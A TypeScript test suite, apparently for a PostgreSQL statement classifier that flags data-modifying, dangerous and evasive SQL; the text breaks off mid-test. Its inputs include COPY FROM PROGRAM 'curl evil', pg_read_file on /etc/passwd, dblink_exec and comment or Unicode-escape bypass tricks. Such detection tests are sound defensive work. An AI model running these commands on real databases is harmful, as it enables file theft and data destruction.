import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { classify, initClassifier, isDangerousFunction, type StatementClass } from './pg-classifier.ts';

before(() => initClassifier());

/** What a case asserts about the (first) statement: only the fields it names; arrays as sets. */
type Expect = Partial<{ [K in keyof StatementClass]: StatementClass[K] }> & {
  /** Asserts on `inner` field by field, the same way. */
  innerIs?: Expect;
  /** Asserts on each statement of `body` field by field, in order (and on their number). */
  bodyIs?: Expect[];
  /** Tables that must appear among tablesRead / tablesWritten (without listing all). */
  reads?: string[];
  writes?: string[];
  dangerous?: string[];
};

function check(actual: StatementClass, expected: Expect, where: string): void {
  for (const [key, want] of Object.entries(expected)) {
    if (key === 'innerIs') {
      assert.ok(actual.inner, `${where}: no inner statement`);
      check(actual.inner, want as Expect, `${where} > inner`);
    } else if (key === 'bodyIs') {
      const parts = want as Expect[];
      assert.equal(actual.body?.length, parts.length, `${where}: body of ${JSON.stringify(actual.body)}`);
      parts.forEach((part, i) => check(actual.body![i]!, part, `${where} > body[${i}]`));
    } else if (key === 'reads') {
      for (const t of want as string[]) assert.ok(actual.tablesRead.includes(t), `${where}: reads ${t}: ${JSON.stringify(actual)}`);
    } else if (key === 'writes') {
      for (const t of want as string[]) assert.ok(actual.tablesWritten.includes(t), `${where}: writes ${t}: ${JSON.stringify(actual)}`);
    } else if (key === 'dangerous') {
      for (const f of want as string[])
        assert.ok(actual.dangerousFunctions.includes(f), `${where}: dangerous ${f}: ${JSON.stringify(actual)}`);
    } else {
      const got = (actual as unknown as Record<string, unknown>)[key];
      const norm = (v: unknown): unknown => (Array.isArray(v) ? [...v].sort() : v);
      assert.deepEqual(norm(got), norm(want), `${where}: ${key} in ${JSON.stringify(actual)}`);
    }
  }
}

function cases(title: string, table: [string, Expect][]): void {
  describe(title, () => {
    for (const [sql, expected] of table) {
      it(sql.replace(/\s+/g, ' ').slice(0, 120), () => {
        const c = classify(sql);
        assert.equal(c.parseError, undefined, `parse error: ${c.parseError}`);
        assert.equal(c.statements.length, 1, JSON.stringify(c));
        check(c.statements[0]!, expected, sql);
      });
    }
  });
}

const none = { tablesWritten: [], dataModifying: false } as const;

cases('every statement kind', [
  ['SELECT * FROM orders', { kind: 'select', tablesRead: ['orders'], ...none }],
  ['VALUES (1), (2)', { kind: 'select', tablesRead: [], ...none }],
  ['TABLE orders', { kind: 'select', tablesRead: ['orders'], ...none }],
  ['INSERT INTO orders (id) VALUES (1)', { kind: 'insert', tablesWritten: ['orders'], dataModifying: true, dmlKinds: ['insert'] }],
  ['INSERT INTO archive SELECT * FROM orders', { kind: 'insert', tablesWritten: ['archive'], tablesRead: ['orders'], dataModifying: true }],
  ['UPDATE orders SET total = 0 WHERE id = 1', { kind: 'update', tablesWritten: ['orders'], hasWhere: true, dataModifying: true }],
  ['DELETE FROM orders WHERE id = 5', { kind: 'delete', tablesWritten: ['orders'], hasWhere: true, dataModifying: true }],
  [
    'MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE',
    { kind: 'merge', tablesWritten: ['orders'], tablesRead: ['staging'], hasWhere: true },
  ],
  ['CREATE TABLE t (id int)', { kind: 'create', objectType: 'table', tablesWritten: ['t'], dataModifying: true }],
  ['ALTER TABLE orders ADD COLUMN note text', { kind: 'alter', objectType: 'table', tablesWritten: ['orders'], dataModifying: true }],
  ['DROP TABLE orders', { kind: 'drop', objectType: 'table', tablesWritten: ['orders'], dataModifying: true }],
  ['TRUNCATE orders, public.items', { kind: 'truncate', tablesWritten: ['orders', 'public.items'], dataModifying: true }],
  ['COPY orders TO STDOUT', { kind: 'copy', copy: { direction: 'to', target: 'stdout' }, tablesRead: ['orders'], ...none }],
  ['CALL refresh_all(1)', { kind: 'call', functions: ['refresh_all'], dynamicSql: true, dataModifying: true }],
  ['DO $$ BEGIN RAISE NOTICE $q$hi$q$; END $$', { kind: 'do', dynamicSql: undefined, dataModifying: true, bodyIs: [] }],
  [
    'PREPARE p (int) AS SELECT * FROM orders WHERE id = $1',
    { kind: 'prepare', innerIs: { kind: 'select', tablesRead: ['orders'] }, dataModifying: false },
  ],
  ['EXECUTE p(1)', { kind: 'execute', dynamicSql: true, dataModifying: true }],
  ['DEALLOCATE p', { kind: 'deallocate', dataModifying: false }],
  ['DEALLOCATE ALL', { kind: 'deallocate', dataModifying: false }],
  ['EXPLAIN SELECT * FROM orders', { kind: 'explain', explainAnalyze: false, innerIs: { kind: 'select' }, dataModifying: false }],
  ['SET search_path = public', { kind: 'set', setting: 'search_path', dataModifying: false }],
  ['SET LOCAL statement_timeout TO 1000', { kind: 'set', setting: 'statement_timeout' }],
  ['SET SESSION AUTHORIZATION admin', { kind: 'set', setting: 'session_authorization' }],
  ['SET ROLE admin', { kind: 'set', setting: 'role' }],
  ['SET standard_conforming_strings = off', { kind: 'set', setting: 'standard_conforming_strings' }],
  ['SET CONSTRAINTS ALL DEFERRED', { kind: 'set' }],
  ['SHOW search_path', { kind: 'show', setting: 'search_path', dataModifying: false }],
  ['SHOW ALL', { kind: 'show', setting: 'all' }],
  ['RESET search_path', { kind: 'reset', setting: 'search_path' }],
  ['RESET ALL', { kind: 'reset', setting: 'all' }],
  ['GRANT SELECT ON orders TO bob', { kind: 'grant', tablesWritten: ['orders'], dataModifying: true }],
  ['REVOKE SELECT ON orders FROM bob', { kind: 'revoke', dataModifying: true }],
  ['GRANT admin TO bob', { kind: 'grant', dataModifying: true }],
  ['BEGIN', { kind: 'transaction', dataModifying: false }],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', { kind: 'transaction' }],
  ['COMMIT', { kind: 'transaction' }],
  ['ROLLBACK', { kind: 'transaction' }],
  ['SAVEPOINT s1', { kind: 'transaction' }],
  ['LISTEN jobs', { kind: 'listen', dataModifying: false }],
  ["NOTIFY jobs, 'payload'", { kind: 'notify', dataModifying: false }],
  ['UNLISTEN *', { kind: 'unlisten' }],
  ['VACUUM orders', { kind: 'vacuum', tablesRead: ['orders'], dataModifying: false }],
  ['VACUUM FULL', { kind: 'vacuum' }],
  ['ANALYZE orders', { kind: 'analyze', tablesRead: ['orders'] }],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', { kind: 'lock', tablesRead: ['orders'], dataModifying: false }],
  [
    'DECLARE c CURSOR FOR SELECT * FROM orders',
    { kind: 'declare', innerIs: { kind: 'select', tablesRead: ['orders'] }, tablesRead: ['orders'] },
  ],
  ['FETCH 10 FROM c', { kind: 'fetch', dataModifying: false }],
  ['MOVE NEXT IN c', { kind: 'fetch' }],
  ['CLOSE c', { kind: 'close' }],
  ['DISCARD ALL', { kind: 'discard' }],
  ["LOAD 'auto_explain'", { kind: 'load', dataModifying: true }],
  ['ALTER SYSTEM SET work_mem = 1', { kind: 'alter-system', setting: 'work_mem', dataModifying: true }],
  ['ALTER SYSTEM RESET ALL', { kind: 'alter-system', setting: 'all' }],
  ["COMMENT ON TABLE orders IS 'x'", { kind: 'comment', objectType: 'table', tablesWritten: ['orders'], dataModifying: true }],
  ["COMMENT ON FUNCTION f(int) IS 'x'", { kind: 'comment', objectType: 'function' }],
  ['REFRESH MATERIALIZED VIEW mv', { kind: 'refresh', tablesWritten: ['mv'], dataModifying: true }],
  ['REINDEX TABLE orders', { kind: 'reindex' }],
  ['CLUSTER orders USING orders_pkey', { kind: 'cluster' }],
  ['CHECKPOINT', { kind: 'checkpoint' }],
  ["SECURITY LABEL FOR selinux ON TABLE orders IS 'x'", { kind: 'other', dataModifying: true }],
]);

cases('create / alter / drop by object type', [
  ['CREATE SCHEMA s', { kind: 'create', objectType: 'schema' }],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$',
    { kind: 'create', objectType: 'function', dynamicSql: undefined, dataModifying: true, bodyIs: [{ kind: 'select' }] },
  ],
  [
    "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    { kind: 'create', objectType: 'function', dynamicSql: undefined, bodyIs: [{ kind: 'select', tablesRead: [] }] },
  ],
  [
    'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$',
    { kind: 'create', objectType: 'procedure', bodyIs: [{ kind: 'delete', tablesWritten: ['orders'], hasWhere: false }] },
  ],
  ["CREATE FUNCTION py() RETURNS int LANGUAGE plpython3u AS 'return 1'", { kind: 'create', dynamicSql: true, body: undefined }],
  [
    'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END',
    {
      kind: 'create',
      objectType: 'function',
      hasWhere: undefined,
      dataModifying: true,
      bodyIs: [{ kind: 'delete', tablesWritten: ['orders'], hasWhere: false }],
    },
  ],
  [
    'CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION audit()',
    { kind: 'create', objectType: 'trigger', functions: ['audit'], writes: ['orders'] },
  ],
  [
    'CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION stop()',
    { kind: 'create', objectType: 'event-trigger', functions: ['stop'] },
  ],
  [
    'CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM items',
    { kind: 'create', objectType: 'rule', writes: ['orders', 'items'] },
  ],
  ['CREATE EXTENSION dblink', { kind: 'create', objectType: 'extension', dataModifying: true }],
  ['CREATE INDEX i ON orders (id)', { kind: 'create', objectType: 'index', writes: ['orders'] }],
  [
    'CREATE VIEW v AS SELECT * FROM orders',
    { kind: 'create', objectType: 'view', writes: ['v'], reads: ['orders'], innerIs: { kind: 'select' } },
  ],
  [
    'CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders',
    { kind: 'create', objectType: 'materialized-view', writes: ['mv'], reads: ['orders'] },
  ],
  [
    'CREATE TABLE t2 AS SELECT * FROM orders',
    { kind: 'create', objectType: 'table', writes: ['t2'], reads: ['orders'], innerIs: { kind: 'select', tablesRead: ['orders'] } },
  ],
  ['SELECT * INTO t3 FROM orders', { kind: 'create', objectType: 'table', writes: ['t3'], reads: ['orders'], dataModifying: true }],
  ['CREATE ROLE r LOGIN', { kind: 'create', objectType: 'role' }],
  ['CREATE USER u', { kind: 'create', objectType: 'role' }],
  ['CREATE DATABASE d', { kind: 'create', objectType: 'database' }],
  ['CREATE SEQUENCE s', { kind: 'create', objectType: 'sequence' }],
  ["CREATE TYPE mood AS ENUM ('a')", { kind: 'create', objectType: 'type' }],
  ['CREATE DOMAIN d AS int', { kind: 'create', objectType: 'domain' }],
  ['CREATE POLICY p ON orders USING (true)', { kind: 'create', objectType: 'policy', writes: ['orders'] }],
  ['CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)', { kind: 'create', objectType: 'aggregate' }],
  ['CREATE SERVER s FOREIGN DATA WRAPPER w', { kind: 'create', objectType: 'foreign-server' }],
  ['ALTER ROLE bob SUPERUSER', { kind: 'alter', objectType: 'role' }],
  ['ALTER SCHEMA s RENAME TO t', { kind: 'alter', objectType: 'schema' }],
  ['ALTER TABLE orders RENAME TO old_orders', { kind: 'alter', objectType: 'table', writes: ['orders'] }],
  ['ALTER FUNCTION f() OWNER TO bob', { kind: 'alter', objectType: 'function' }],
  ['ALTER TABLE orders SET SCHEMA archive', { kind: 'alter', objectType: 'table', writes: ['orders'] }],
  ['ALTER DATABASE d SET work_mem = 1', { kind: 'alter', objectType: 'database' }],
  ['ALTER EXTENSION dblink UPDATE', { kind: 'alter', objectType: 'extension' }],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', { kind: 'alter', objectType: 'default-privileges' }],
  ['DROP SCHEMA s CASCADE', { kind: 'drop', objectType: 'schema' }],
  ['DROP TABLE IF EXISTS public.orders, items', { kind: 'drop', objectType: 'table', tablesWritten: ['public.orders', 'items'] }],
  ['DROP VIEW v', { kind: 'drop', objectType: 'view', tablesWritten: ['v'] }],
  ['DROP MATERIALIZED VIEW mv', { kind: 'drop', objectType: 'materialized-view' }],
  ['DROP INDEX i', { kind: 'drop', objectType: 'index' }],
  ['DROP FUNCTION f(int)', { kind: 'drop', objectType: 'function', tablesWritten: [] }],
  ['DROP TRIGGER t ON orders', { kind: 'drop', objectType: 'trigger' }],
  ['DROP EXTENSION dblink', { kind: 'drop', objectType: 'extension' }],
  ['DROP ROLE bob', { kind: 'drop', objectType: 'role' }],
  ['DROP DATABASE d', { kind: 'drop', objectType: 'database' }],
  ['DROP OWNED BY bob', { kind: 'drop', objectType: 'owned' }],
]);

cases('tables through CTEs, subqueries and joins', [
  ['SELECT * FROM public.orders o JOIN items i ON o.id = i.order_id', { tablesRead: ['public.orders', 'items'], ...none }],
  ['SELECT * FROM orders WHERE id IN (SELECT order_id FROM items)', { tablesRead: ['orders', 'items'] }],
  ['SELECT (SELECT max(id) FROM items) FROM orders', { tablesRead: ['items', 'orders'], functions: ['max'] }],
  ['WITH x AS (SELECT * FROM orders) SELECT * FROM x', { kind: 'select', tablesRead: ['orders'], ...none }],
  ['WITH orders AS (SELECT 1) SELECT * FROM orders', { tablesRead: [] }],
  ['WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', { tablesRead: ['b'] }],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r', { tablesRead: [] }],
  ['SELECT * FROM (SELECT * FROM orders) s, LATERAL (SELECT * FROM items WHERE items.o = s.id) l', { tablesRead: ['orders', 'items'] }],
  ['SELECT * FROM x WHERE EXISTS (WITH x AS (SELECT 1) SELECT * FROM x)', { tablesRead: ['x'] }],
  ['SELECT * FROM "Orders"', { tablesRead: ['Orders'] }],
  ['SELECT * FROM ORDERS', { tablesRead: ['orders'] }],
  ['SELECT * FROM "orders"', { tablesRead: ['orders'] }],
  ['SELECT * FROM "a.b"', { tablesRead: ['"a.b"'] }],
  ['SELECT * FROM mydb.public.orders', { tablesRead: ['mydb.public.orders'] }],
  ['SELECT * FROM orders UNION SELECT * FROM archive', { tablesRead: ['orders', 'archive'] }],
  ['SELECT * FROM active_orders_view', { tablesRead: ['active_orders_view'] }],
  [
    'UPDATE orders o SET total = i.t FROM items i WHERE o.id = i.order_id',
    { tablesWritten: ['orders'], tablesRead: ['items'], hasWhere: true },
  ],
  ['DELETE FROM orders USING items WHERE orders.id = items.order_id', { tablesWritten: ['orders'], tablesRead: ['items'], hasWhere: true }],
  [
    'INSERT INTO orders SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET total = excluded.total',
    { kind: 'update', tablesWritten: ['orders'], reads: ['staging'], dmlKinds: ['insert', 'update'], hasWhere: false },
  ],
  [
    'INSERT INTO orders SELECT * FROM staging WHERE id = 4 ON CONFLICT (id) DO UPDATE SET total = excluded.total',
    { kind: 'update', hasWhere: true },
  ],
  ["INSERT INTO orders VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET total = excluded.total", { kind: 'update', hasWhere: true }],
  ["INSERT INTO orders VALUES (1, 'a') ON CONFLICT (id) DO NOTHING", { kind: 'insert', hasWhere: undefined }],
]);

cases('data-modifying statements hidden in the tree', [
  [
    'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d',
    { kind: 'delete', dataModifying: true, tablesWritten: ['orders'], tablesRead: [], hasWhere: false, dmlKinds: ['delete'] },
  ],
  [
    'WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u',
    { kind: 'update', tablesWritten: ['orders'], hasWhere: false },
  ],
  ['WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i', { kind: 'insert', tablesWritten: ['log'], dataModifying: true }],
  [
    'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) INSERT INTO archive SELECT * FROM d',
    { kind: 'delete', tablesWritten: ['orders', 'archive'], hasWhere: true, dmlKinds: ['insert', 'delete'] },
  ],
  [
    'WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d',
    { kind: 'delete', tablesWritten: ['orders', 'archive'], hasWhere: false },
  ],
  [
    'WITH u AS (UPDATE orders SET status = 1 RETURNING *) INSERT INTO archive SELECT * FROM u',
    { kind: 'update', tablesWritten: ['orders', 'archive'], hasWhere: false },
  ],
  [
    'WITH a AS (WITH b AS (DELETE FROM orders RETURNING *) SELECT * FROM b) SELECT * FROM a',
    { kind: 'delete', tablesWritten: ['orders'], hasWhere: false },
  ],
  [
    'SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM items RETURNING id) SELECT id FROM d)',
    { dataModifying: true, writes: ['items'] },
  ],
  [
    'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *), e AS (DELETE FROM items RETURNING *) SELECT 1',
    { hasWhere: false, tablesWritten: ['orders', 'items'] },
  ],
  ["SELECT nextval('orders_id_seq')", { kind: 'select', functions: ['nextval'], dataModifying: true }],
  ['SELECT 1 FROM orders FOR UPDATE', { kind: 'select', tablesRead: ['orders'], ...none }],
]);

cases('a WHERE that really filters', [
  ['DELETE FROM orders', { hasWhere: false }],
  ['DELETE FROM orders WHERE 1=1', { hasWhere: false }],
  ['DELETE FROM orders WHERE true', { hasWhere: false }],
  ["DELETE FROM orders WHERE 'a'='a'", { hasWhere: false }],
  ['DELETE FROM orders WHERE id > 0 OR true', { hasWhere: false }],
  ['DELETE FROM orders WHERE NOT false', { hasWhere: false }],
  ['DELETE FROM orders WHERE 1=2', { hasWhere: false }],
  ['DELETE FROM orders WHERE id = id', { hasWhere: false }],
  ['DELETE FROM orders WHERE id + 1 = id + 2', { hasWhere: false }],
  ['DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL', { hasWhere: false }],
  ['DELETE FROM orders WHERE (id = 5) OR (1 = 1)', { hasWhere: false }],
  ['DELETE FROM orders WHERE random() < 2', { hasWhere: false }],
  ['DELETE FROM orders WHERE EXISTS (SELECT 1)', { hasWhere: false }],
  ['DELETE FROM orders WHERE $1', { hasWhere: false }],
  ["DELETE FROM orders WHERE 't'::boolean", { hasWhere: false }],
  ['DELETE FROM orders WHERE (1=1) IS TRUE', { hasWhere: false }],
  ['UPDATE orders SET total = 0 WHERE 1 = 1 AND 2 = 2', { hasWhere: false }],
  ['MERGE INTO orders USING staging s ON true WHEN MATCHED THEN DELETE', { kind: 'merge', hasWhere: false }],
  ['DELETE FROM orders WHERE id = 5', { hasWhere: true }],
  ['DELETE FROM orders WHERE id = $1', { hasWhere: true }],
  ['DELETE FROM orders WHERE id = 5 AND true', { hasWhere: true }],
  ['DELETE FROM orders WHERE id = 5 OR id = 6', { hasWhere: true }],
  ['DELETE FROM orders WHERE NOT (id = 5)', { hasWhere: true }],
  ["DELETE FROM orders WHERE created < now() - interval '1 day'", { hasWhere: true }],
  ['DELETE FROM orders WHERE CURRENT OF c', { hasWhere: true }],
  ['UPDATE orders SET total = 0 WHERE id IN (1, 2, 3)', { hasWhere: true }],
]);

cases('EXPLAIN, PREPARE and COPY', [
  [
    'EXPLAIN ANALYZE DELETE FROM orders',
    {
      kind: 'explain',
      explainAnalyze: true,
      dataModifying: true,
      tablesWritten: ['orders'],
      hasWhere: false,
      innerIs: { kind: 'delete', hasWhere: false },
    },
  ],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0', { explainAnalyze: true, dataModifying: true }],
  ['EXPLAIN (ANALYZE off) DELETE FROM orders', { explainAnalyze: true, dataModifying: true }],
  [
    'EXPLAIN DELETE FROM orders',
    {
      kind: 'explain',
      explainAnalyze: false,
      dataModifying: false,
      tablesWritten: [],
      tablesRead: ['orders'],
      innerIs: { kind: 'delete', dataModifying: true },
    },
  ],
  [
    'EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT * FROM d',
    { explainAnalyze: true, dataModifying: true, innerIs: { kind: 'delete' } },
  ],
  [
    'PREPARE p AS DELETE FROM orders',
    { kind: 'prepare', tablesWritten: ['orders'], hasWhere: false, dataModifying: true, innerIs: { kind: 'delete', hasWhere: false } },
  ],
  ['PREPARE p (int) AS DELETE FROM orders WHERE id = $1', { kind: 'prepare', hasWhere: true, innerIs: { kind: 'delete', hasWhere: true } }],
  ["COPY orders TO '/tmp/x'", { kind: 'copy', copy: { direction: 'to', target: 'file' }, dataModifying: true, tablesRead: ['orders'] }],
  ["COPY orders TO PROGRAM 'sh'", { kind: 'copy', copy: { direction: 'to', target: 'program' }, dataModifying: true }],
  ["COPY orders FROM PROGRAM 'curl evil'", { copy: { direction: 'from', target: 'program' }, tablesWritten: ['orders'] }],
  [
    'COPY orders FROM STDIN',
    { kind: 'copy', copy: { direction: 'from', target: 'stdin' }, tablesWritten: ['orders'], dataModifying: true },
  ],
  ["COPY orders (id) FROM '/etc/passwd'", { copy: { direction: 'from', target: 'file' }, tablesWritten: ['orders'] }],
  [
    'COPY (SELECT * FROM orders JOIN items ON true) TO STDOUT',
    { kind: 'copy', copy: { direction: 'to', target: 'stdout' }, tablesRead: ['orders', 'items'], ...none, innerIs: { kind: 'select' } },
  ],
  [
    'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
    { kind: 'copy', dataModifying: true, writes: ['orders'], hasWhere: false, innerIs: { kind: 'delete' } },
  ],
]);

cases('code: what DO blocks and functions run is read', [
  [
    'DO $$BEGIN DELETE FROM canary; END$$',
    { kind: 'do', dynamicSql: undefined, bodyIs: [{ kind: 'delete', tablesWritten: ['canary'], hasWhere: false }] },
  ],
  ['DO $$ BEGIN DROP TABLE canary; END $$', { bodyIs: [{ kind: 'drop', objectType: 'table' }] }],
  [
    "DO LANGUAGE plpgsql 'BEGIN EXECUTE format(''TRUNCATE %I'', ''canary''); END'",
    { kind: 'do', dynamicSql: true, bodyIs: [{ kind: 'select', functions: ['format'] }] },
  ],
  [
    'DO $$ DECLARE n int := 0; BEGIN n := n + (SELECT count(*) FROM orders); IF pg_read_file($f$x$f$) IS NULL THEN UPDATE t SET a = 1 WHERE id = n; END IF; END $$',
    {
      bodyIs: [
        { kind: 'select', tablesRead: [] },
        { kind: 'select', tablesRead: ['orders'] },
        { kind: 'select', dangerous: ['pg_read_file'] },
        { kind: 'update', hasWhere: true },
      ],
    },
  ],
  ['DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE $q$SELECT 1$q$ LOOP END LOOP; END $$', { dynamicSql: true }],
  ['DO $$ BEGIN this is not plpgsql; END $$', { bodyIs: [{ kind: 'unknown' }] }],
  [
    'CREATE FUNCTION tr() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.total := NEW.total + 1; RETURN NEW; END $$',
    { kind: 'create', objectType: 'function', dynamicSql: undefined, bodyIs: [{ kind: 'select' }] },
  ],
  [
    'CREATE FUNCTION f(a int) RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders WHERE id = a; SELECT 1; END',
    { kind: 'create', bodyIs: [{ kind: 'delete', hasWhere: true }, { kind: 'select' }] },
  ],
  ['ALTER TABLE canary RENAME COLUMN note TO gone', { kind: 'alter', objectType: 'table' }],
  ['ALTER TABLE canary RENAME CONSTRAINT canary_pkey TO gone', { kind: 'alter', objectType: 'table' }],
  [
    'CREATE RULE r AS ON INSERT TO scratch DO ALSO DELETE FROM canary',
    { kind: 'create', objectType: 'rule', hasWhere: false, writes: ['canary'] },
  ],
]);

cases('functions and the dangerous ones', [
  ["SELECT pg_read_file('/etc/passwd')", { kind: 'select', functions: ['pg_read_file'], dangerousFunctions: ['pg_read_file'] }],
  [
    "SELECT pg_catalog.pg_read_binary_file('x')",
    { functions: ['pg_catalog.pg_read_binary_file'], dangerousFunctions: ['pg_catalog.pg_read_binary_file'] },
  ],
  ["SELECT * FROM pg_ls_dir('.')", { dangerous: ['pg_ls_dir'] }],
  ["SELECT lo_import('/etc/passwd')", { dangerous: ['lo_import'], dataModifying: true }],
  ["SELECT lo_export(1, '/tmp/x')", { dangerous: ['lo_export'] }],
  ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", { dangerous: ['dblink'], dynamicSql: true, dataModifying: true }],
  ["SELECT dblink_exec('drop table x')", { dangerous: ['dblink_exec'], dynamicSql: true }],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', { dangerous: ['pg_terminate_backend'], tablesRead: ['pg_stat_activity'] }],
  ['SELECT pg_cancel_backend(1)', { dangerous: ['pg_cancel_backend'] }],
  ['SELECT pg_reload_conf()', { dangerous: ['pg_reload_conf'] }],
  ["SELECT set_config('role', 'admin', false)", { dangerous: [], functions: ['set_config'] }],
  ['SELECT pg_sleep(100)', { dangerous: [], functions: ['pg_sleep'] }],
  ["SELECT query_to_xml('delete from orders', true, true, '')", { dangerous: ['query_to_xml'], dynamicSql: true, dataModifying: true }],
  ["SELECT table_to_xml('secrets', true, false, '')", { dangerous: ['table_to_xml'] }],
  [
    'SELECT id FROM orders WHERE upper(name) = lower(pg_read_file(path))',
    { functions: ['upper', 'lower', 'pg_read_file'], dangerous: ['pg_read_file'] },
  ],
  ["SELECT * FROM orders o, LATERAL (SELECT pg_read_file('x')) f", { dangerous: ['pg_read_file'] }],
  ["WITH f AS (SELECT pg_read_file('x')) SELECT * FROM f", { dangerous: ['pg_read_file'] }],
  ['SELECT coalesce(max(id), 0) FROM orders', { functions: ['max'], dangerousFunctions: [] }],
  ['SELECT "PG_READ_FILE"(1)', { functions: ['PG_READ_FILE'], dangerousFunctions: [] }],
  ['SELECT "pg_read_file"(1)', { dangerousFunctions: ['pg_read_file'] }],
  ['SELECT count(*) OVER (PARTITION BY x) FROM orders', { functions: ['count'] }],
]);

cases('bypass attempts: comments, quoting, dollar strings', [
  ['/* hi */ DROP /* nested /* deeper */ still */ TABLE orders', { kind: 'drop', objectType: 'table', tablesWritten: ['orders'] }],
  ['-- a comment\nDELETE FROM orders -- WHERE id = 1', { kind: 'delete', hasWhere: false }],
  ['DELETE FROM orders /* WHERE id = 1 */', { kind: 'delete', hasWhere: false }],
  ['DELETE/**/FROM/**/orders', { kind: 'delete', tablesWritten: ['orders'] }],
  ['dElEtE fRoM OrDeRs', { kind: 'delete', tablesWritten: ['orders'] }],
  ['DELETE FROM "orders"', { tablesWritten: ['orders'] }],
  ['DELETE FROM U&"\\006Frders"', { tablesWritten: ['orders'] }],
  ['DELETE FROM U&"!006Frders" UESCAPE \'!\'', { tablesWritten: ['orders'] }],
  ["SELECT U&'\\0044ROP TABLE x'", { kind: 'select', ...none }],
  ["SELECT E'\\'; DROP TABLE x; --'", { kind: 'select', ...none }],
  ["SELECT 'it''s; DROP TABLE x'", { kind: 'select', ...none }],
  ['SELECT $$; DROP TABLE x; $$', { kind: 'select', ...none }],
  ['SELECT $tag$ $$; DROP TABLE x; $$ $tag$', { kind: 'select', ...none }],
  ['SELECT 1 /* ; DROP TABLE x */', { kind: 'select', ...none }],
  ["DO $x$ BEGIN EXECUTE 'DROP TABLE orders'; END $x$", { kind: 'do', dynamicSql: true, dataModifying: true }],
  ['DO LANGUAGE plpgsql $$ BEGIN DELETE FROM orders; END $$', { kind: 'do', dataModifying: true }],
  ['SELECT * FROM orders WHERE id = 1 -- ; DROP TABLE x', { kind: 'select', ...none }],
  ["SELECT B'101', X'ff', N'x', 1e5, 0x1f, 1_000", { kind: 'select', ...none }],
]);

cases('look-alikes that classify harmlessly', [
  ["SELECT 'DROP TABLE x'", { kind: 'select', tablesRead: [], ...none, functions: [] }],
  ['SELECT drop_count, delete_flag FROM stats', { kind: 'select', tablesRead: ['stats'], ...none }],
  ['SELECT * FROM "delete"', { kind: 'select', tablesRead: ['delete'], ...none }],
  ['SELECT "drop" FROM "truncate"', { kind: 'select', tablesRead: ['truncate'], ...none }],
  ['SELECT my_pg_read_file_helper(1)', { functions: ['my_pg_read_file_helper'], dangerousFunctions: [], ...none }],
  ['SELECT pg_read_file FROM t', { functions: [], dangerousFunctions: [], tablesRead: ['t'] }],
  ["SELECT * FROM orders WHERE note = 'delete from orders'", { kind: 'select', ...none }],
  ['SELECT * FROM update_log', { kind: 'select', tablesRead: ['update_log'] }],
  ['SELECT abalance FROM pgbench_accounts WHERE aid = 48213', { kind: 'select', tablesRead: ['pgbench_accounts'], ...none }],
]);

describe('several statements', () => {
  it('SELECT 1; DROP TABLE x is two statements, the second a drop', () => {
    const c = classify('SELECT 1; DROP TABLE x');
    assert.equal(c.multiStatement, true);
    assert.deepEqual(
      c.statements.map((s) => s.kind),
      ['select', 'drop'],
    );
    assert.deepEqual(c.statements[1]!.tablesWritten, ['x']);
  });
  it('a comment cannot glue statements together', () => {
    const c = classify('SELECT 1 /* x */; /* y */ DELETE FROM orders');
    assert.deepEqual(
      c.statements.map((s) => s.kind),
      ['select', 'delete'],
    );
  });
  it('one statement with a trailing semicolon is one statement', () => {
    const c = classify('SELECT 1;');
    assert.equal(c.multiStatement, false);
    assert.equal(c.statements.length, 1);
  });
  it('BEGIN; UPDATE ...; COMMIT is three statements', () => {
    const c = classify('BEGIN; UPDATE orders SET total = 0; COMMIT;');
    assert.deepEqual(
      c.statements.map((s) => s.kind),
      ['transaction', 'update', 'transaction'],
    );
    assert.equal(c.statements[1]!.hasWhere, false);
  });
  it('empty text and comments only are no statements', () => {
    for (const sql of ['', '   ', '-- nothing', '/* nothing */', ';']) {
      const c = classify(sql);
      assert.equal(c.parseError, undefined, sql);
      assert.deepEqual(c.statements, [], sql);
    }
  });
});

describe('what does not parse is unknown (fail closed)', () => {
  const bad = [
    'SELEC 1',
    'DROP TABLE',
    "SELECT 'unterminated",
    'SELECT /* unterminated',
    'SELECT $$ unterminated',
    'SELECT 1; DROP TABLE x; SELEC 2',
    'SELECT 1abc',
    'DELETE FROM orders WHERE',
    'SELECT 1\0; DROP TABLE x',
    'SELECT \ud800',
  ];
  for (const sql of bad) {
    it(JSON.stringify(sql), () => {
      const c = classify(sql);
      assert.equal(typeof c.parseError, 'string');
